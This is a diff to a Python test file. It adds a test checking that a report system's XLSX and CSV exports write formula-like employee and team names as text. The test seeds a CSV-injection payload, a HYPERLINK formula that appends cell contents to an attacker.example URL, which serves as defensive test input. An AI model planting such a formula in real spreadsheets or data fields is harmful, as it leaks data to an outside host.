@@ -3,6 +3,7 @@ through the guard, made by schedules once per period, e-mailed through a real SM
 
 from __future__ import annotations
 
+import csv
 import io
 import shutil
 import socket
@@ -172,6 +173,22 @@ def test_xlsx_and_csv_hold_the_same_tables(history_rt):
     visits_in_csv = sum(int(line.split(",")[3]) for line in employee_csv[1:])
     assert visits_in_xlsx == visits_in_csv > 0
     assert zipfile.is_zipfile(io.BytesIO(xlsx))
+
+
+def test_report_csv_and_xlsx_write_formula_like_names_as_text(seeded_rt):
+    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")'
+    seeded_rt.db.execute("UPDATE employees SET name = %s WHERE code = 'E0001'", (formula,))
+    seeded_rt.db.execute("UPDATE teams SET name = '@SUM(1+1)' WHERE name = 'North'")
+    files = files_of(seeded_rt, build(seeded_rt, MANAGER, "2026-01", ["xlsx", "csv"]))
+    xlsx = next(content for name, content in files.items() if name.endswith(".xlsx"))
+    cells = [cell for sheet in load_workbook(io.BytesIO(xlsx)).worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert {"'" + formula, "'@SUM(1+1)"} <= texts  # the apostrophe the /export CSVs use: shown as text
+    employees_csv = next(content for name, content in files.items() if name.endswith("-employees.csv"))
+    rows = list(csv.reader(io.StringIO(employees_csv.decode("utf-8-sig"))))
+    assert ["'" + formula, "'@SUM(1+1)"] in [row[1:3] for row in rows]
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
 
 
 def test_supervisor_report_holds_only_their_teams(history_rt):
